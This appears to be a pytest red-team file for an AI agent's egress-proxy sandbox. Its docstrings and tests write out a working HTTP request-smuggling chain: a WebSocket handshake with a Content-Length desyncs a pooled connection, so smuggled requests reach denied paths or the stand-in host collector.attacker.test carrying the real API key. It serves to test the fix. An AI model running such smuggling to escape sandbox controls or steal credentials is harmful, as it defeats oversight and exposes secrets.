"""Red team 43: a WebSocket handshake with a Content-Length poisons a pooled upstream connection.

httptools stops at an Upgrade request's head (its ``on_headers_complete`` callback returns 1:
"skip the body") whatever framing the head declares, so the proxy reads no body for
``GET /x`` + ``Upgrade: websocket`` + ``Connection: Upgrade`` + ``Content-Length: N``: the bytes after
the head land in ``Client._after_upgrade`` (dropped unless a 101 comes) or, in a later read, are
dropped by ``Client.on_data`` (no parser). ``check_request`` still takes the Content-Length as the
framing, so ``request_head`` forwards ``Content-Length: N`` -- and nothing after it. An upstream that
declines the upgrade and answers before reading the body (nginx and Node answer a request whose
handler does not read its body at once, then discard the body so the connection can be kept) is
left waiting for N bytes; the proxy, which took the request for whole (``request_done``), puts the
connection back in the pool. The next request any client connection of the sandbox sends to that
host -- its head with the real key swapped in -- is the first N bytes the upstream reads: the body
of the agent's handshake. With N chosen to end where the agent's next request's body begins, that
body is read as requests of the agent's own, which no rule checked (a path the allowlist denies),
and the last of them swallows the following request's head, real key and all, into its body.

Invariants: a real key only in its templated slot toward its bound host (here it reaches the bound
host as the body of an agent-chosen request, and is stored); one request judged per request sent
(requests the allowlist denies reach the upstream); fail closed (a framing the proxy does not
follow is forwarded).

Fixed: a WebSocket handshake that declares a body (Content-Length other than 0, or
Transfer-Encoding) is refused with ``malformed_request``; an upstream connection is never pooled
after an upgrade request, nor after a request whose body did not fill its declared length."""

from __future__ import annotations

import asyncio
import secrets
import socket
import ssl
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import trustme

from tests.conftest import needs_root
from tests.proxy.test_redteam import HOSTILE_NAME, hostile, hostile_ca  # noqa: F401 (fixtures)
from tests.proxy.test_redteam37 import keyed_proxy
from tests.proxy.test_redteam39 import get, tunnel
from tests.support.hostile import HostileServer, Request, Wire
from tests.support.listeners import DnsSink
from tests.support.proxyproc import ProxyProcess

pytestmark = needs_root

NAME, IP = "desync.example.net", "127.0.0.43"
PH = f"rt43-PH-{secrets.token_hex(4)}-desync"
REAL = "rt43REALdesync" + secrets.token_hex(16)

POLICY = f"""
apiVersion: sandgate.dev/v1alpha1
kind: EgressPolicy
metadata: {{name: rt43-desync}}
spec:
  allow:
    - host: {NAME}
      paths: ["/v1/*"]
  secrets:
    - name: rt43
      placeholder: {PH}
      source: {{env: RT43_DESYNC_KEY}}
      hosts: [{NAME}]
"""


@dataclass
class Seen:
    method: str
    path: str
    head: bytes
    body: bytes
    host: str = ""


@dataclass
class LaxServer:
    """An HTTPS upstream that frames requests as HTTP/1.1 says, and answers as nginx or Node do: a
    GET (its handler reads no body) is answered at once and its declared body read and discarded
    afterwards, the connection kept; a POST's body is read first. ``/admin/notes`` stores its body."""

    ctx: ssl.SSLContext
    seen: list[Seen] = field(default_factory=list)
    notes: list[bytes] = field(default_factory=list)

    def start(self) -> None:
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever, daemon=True)
        self._thread.start()
        fut = asyncio.run_coroutine_threadsafe(
            asyncio.start_server(self._serve, IP, 443, ssl=self.ctx, reuse_address=True), self._loop
        )
        self._server = fut.result(10)

    def stop(self) -> None:
        async def close() -> None:
            self._server.close()
            for t in [t for t in asyncio.all_tasks() if t is not asyncio.current_task()]:
                t.cancel()

        asyncio.run_coroutine_threadsafe(close(), self._loop).result(10)
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(5)

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while True:
                head = await reader.readuntil(b"\r\n\r\n")
                head = head.lstrip(b"\r\n")  # (RFC 9112 2.2: empty lines before a request line are ignored)
                lines = head.decode("latin-1").split("\r\n")
                parts = lines[0].split(" ")
                if len(parts) != 3 or not parts[2].startswith("HTTP/1."):
                    writer.write(b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                    await writer.drain()
                    return
                method, path = parts[0], parts[1]
                fields = {n.strip().lower(): v.strip() for n, _, v in (ln.partition(":") for ln in lines[1:] if ln)}
                length = int(fields.get("content-length", "0") or 0)
                seen = Seen(method, path, head, b"", fields.get("host", ""))
                self.seen.append(seen)
                if method == "GET":  # answered first, its body discarded after
                    await self._answer(writer, b'{"path": "%s"}' % path.encode())
                    seen.body = await reader.readexactly(length) if length else b""
                    continue
                seen.body = await reader.readexactly(length) if length else b""
                if path == "/admin/notes":
                    self.notes.append(seen.body)
                await self._answer(writer, b'{"stored": true}')
        except (
            asyncio.IncompleteReadError,
            ConnectionError,
            ssl.SSLError,
            asyncio.CancelledError,
            asyncio.LimitOverrunError,
        ):
            pass
        finally:
            writer.close()

    @staticmethod
    async def _answer(writer: asyncio.StreamWriter, body: bytes) -> None:
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s"
                     % (len(body), body))  # fmt: skip
        await writer.drain()


@pytest.fixture
def world(
    make_proxy: Callable[..., ProxyProcess],
    hostile_ca: tuple[trustme.CA, Path],  # noqa: F811
    dns: DnsSink,
) -> Iterator[tuple[ProxyProcess, LaxServer]]:
    ca, ca_path = hostile_ca
    ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    ca.issue_cert(NAME).configure_cert(ctx)
    server = LaxServer(ctx)
    server.start()
    dns.hosts[NAME] = IP
    p = make_proxy(POLICY, "--upstream-ca", str(ca_path), env={"RT43_DESYNC_KEY": REAL})
    try:
        yield p, server
    finally:
        p.stop()
        dns.hosts.pop(NAME, None)
        server.stop()


def _tunnel(p: ProxyProcess) -> ssl.SSLSocket:
    sock = socket.create_connection(("127.0.0.1", p.port), timeout=10)
    sock.sendall(f"CONNECT {NAME}:443 HTTP/1.1\r\nHost: {NAME}:443\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        head += sock.recv(4096)
    assert head.startswith(b"HTTP/1.1 200"), head
    return ssl.create_default_context(cafile=str(p.ca)).wrap_socket(sock, server_hostname=NAME)


def _one(p: ProxyProcess, request: bytes, wait: float = 3.0) -> bytes:
    """One request on a tunnel of its own; what came back until the proxy closed or went quiet."""
    s = _tunnel(p)
    s.sendall(request)
    s.settimeout(wait)
    out = b""
    try:
        while chunk := s.recv(65536):
            out += chunk
            if b"\r\n\r\n" in out and b"Content-Length" in out:
                head, _, body = out.partition(b"\r\n\r\n")
                n = int(head.lower().split(b"content-length:")[1].split(b"\r\n")[0])
                if len(body) >= n:
                    break
    except (TimeoutError, ssl.SSLError, ConnectionError):
        pass
    s.close()
    return out


def _handshake(n: int) -> bytes:
    return (f"GET /v1/ws HTTP/1.1\r\nHost: {NAME}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            f"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
            f"Content-Length: {n}\r\n\r\n").encode()  # fmt: skip


def test_rt43_a_handshake_declaring_a_body_never_leaves_the_upstream_waiting_for_it(
    world: tuple[ProxyProcess, LaxServer],
) -> None:
    """The root: the head goes upstream with ``Content-Length: 128`` and no body behind it; the
    upstream (answering at once) then reads the next request's head -- the real key in it -- as
    that body."""
    p, server = world
    out = _one(p, _handshake(128) + b"x" * 128)  # (the body in the same write: dropped all the same)
    assert out.startswith(b"HTTP/1.1 400") and b"malformed_request" in out, out[:300]
    time.sleep(0.3)
    _one(p, f"GET /v1/me HTTP/1.1\r\nHost: {NAME}\r\nAuthorization: Bearer {PH}\r\nX-Pad: {'p' * 80}\r\n\r\n".encode())
    time.sleep(0.5)
    bodies = [(s.path, s.body) for s in server.seen if REAL.encode() in s.body]
    assert not bodies, f"the upstream read the real key as the body of the agent's handshake: {bodies}"
    assert all(s.body == b"x" * 128 for s in server.seen if s.path == "/v1/ws"), [s.body for s in server.seen]


def test_rt43_smuggled_behind_a_declared_handshake_body_the_key_is_stored_by_a_denied_path(
    world: tuple[ProxyProcess, LaxServer],
) -> None:
    """The chain an agent builds from it, with no bug in the upstream: (1) the handshake declares
    N bytes, N the length of the head the proxy will forward for (2); (2) a POST to an allowed path
    whose body is two requests of the agent's: a GET (its answer closes (2) for the proxy) and a
    ``POST /admin/notes`` (denied by the allowlist) whose body the next request fills; (3) a
    request carrying the placeholder: its head, the real key swapped in, becomes the note."""
    p, server = world
    smuggled = (f"GET /v1/ping HTTP/1.1\r\nHost: {NAME}\r\n\r\n"
                f"POST /admin/notes HTTP/1.1\r\nHost: {NAME}\r\nContent-Length: 200\r\n\r\n").encode()  # fmt: skip
    second_head = f"POST /v1/upload HTTP/1.1\r\nHost: {NAME}\r\nContent-Length: {len(smuggled)}\r\n\r\n".encode()
    _one(p, _handshake(len(second_head)))  # (refused now: the chain goes on as an agent would)
    time.sleep(0.3)
    second = _one(p, second_head + smuggled)
    assert second.startswith(b"HTTP/1.1 200"), second[:200]
    time.sleep(0.3)
    pad = "p" * 300  # (the key's length unknown to the agent: the note takes 200 bytes, padding after it)
    _one(p, f"GET /v1/me HTTP/1.1\r\nHost: {NAME}\r\nAuthorization: Bearer {PH}\r\nX-Pad: {pad}\r\n\r\n".encode())
    time.sleep(0.5)
    denied = [s.path for s in server.seen if not s.path.startswith("/v1/")]
    stored = [n for n in server.notes if REAL.encode() in n]
    assert not stored, f"the upstream stored the real key in a note of the agent's: {stored[0][:120]!r}"
    assert not denied, f"requests the allowlist denies reached the upstream: {denied}"


def test_rt43_smuggled_behind_a_declared_handshake_body_the_key_goes_to_a_request_for_another_host(
    world: tuple[ProxyProcess, LaxServer],
) -> None:
    """The same chain where the bound host's front routes each request by its Host (a CDN or load
    balancer serving many names on one address, as HTTP/1.1 lets it): the agent's second request
    names ``collector.attacker.test``, and the key-carrying head the proxy writes next is that
    request's body -- the real key in a request to a host no rule allows and no secret is bound to."""
    p, server = world
    smuggled = (f"GET /v1/ping HTTP/1.1\r\nHost: {NAME}\r\n\r\n"
                "POST /collect HTTP/1.1\r\nHost: collector.attacker.test\r\nContent-Length: 200\r\n\r\n").encode()  # fmt: skip
    second_head = f"POST /v1/upload HTTP/1.1\r\nHost: {NAME}\r\nContent-Length: {len(smuggled)}\r\n\r\n".encode()
    _one(p, _handshake(len(second_head)))
    time.sleep(0.3)
    assert _one(p, second_head + smuggled).startswith(b"HTTP/1.1 200")
    time.sleep(0.3)
    _one(p, f"GET /v1/me HTTP/1.1\r\nHost: {NAME}\r\nAuthorization: Bearer {PH}\r\nX-Pad: {'p' * 300}\r\n\r\n".encode())
    time.sleep(0.5)
    elsewhere = [(s.host, s.path) for s in server.seen if s.host != NAME]
    keyed = [(s.host, s.path) for s in server.seen if s.host != NAME and REAL.encode() in s.body]
    assert not keyed, f"the real key went in a request for another host: {keyed}"
    assert not elsewhere, f"requests for other hosts went down the bound host's connection: {elsewhere}"


@pytest.mark.parametrize("framing", ["Content-Length: 5", "Transfer-Encoding: chunked"])
def test_rt43_a_handshake_declaring_a_body_is_refused_and_recorded(
    world: tuple[ProxyProcess, LaxServer], framing: str
) -> None:
    p, server = world
    head = _handshake(0).replace(b"Content-Length: 0", framing.encode())
    out = _one(p, head)
    assert out.startswith(b"HTTP/1.1 400") and b"a WebSocket handshake carries no body" in out, out[:300]
    assert not [s for s in server.seen if s.path == "/v1/ws"], "the handshake reached the upstream"
    assert any(r.get("reason") == "malformed_request" for r in p.audit()), "no record of the refusal"


def test_rt43_an_upstream_connection_is_not_pooled_after_a_declined_upgrade(
    make_proxy: Callable[..., ProxyProcess],
    hostile: HostileServer,  # noqa: F811
    hostile_ca: tuple[trustme.CA, Path],  # noqa: F811
    tmp_path: Path,
) -> None:
    """An upstream that declined an upgrade may read what follows as the other protocol, or as a
    body: the next request never goes down that connection."""
    p, _ = keyed_proxy(make_proxy, hostile_ca[1], tmp_path)

    @hostile.on("/rt43/declined")
    async def declined(r: Request, w: Wire) -> None:
        await w.send(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nno")

    s = tunnel(p)
    s.sendall(_handshake(0).replace(b"/v1/ws", b"/rt43/declined").replace(NAME.encode(), HOSTILE_NAME.encode()))
    answer = b""
    while b"\r\n\r\nno" not in answer and (chunk := s.recv(65536)):
        answer += chunk
    assert answer.startswith(b"HTTP/1.1 200"), answer[:200]
    s.close()
    time.sleep(0.3)
    get(p, "/rt43/after")
    conn = {r.path: r.conn for r in hostile.requests}
    assert conn["/rt43/after"] != conn["/rt43/declined"], "the declined upgrade's connection was used again"
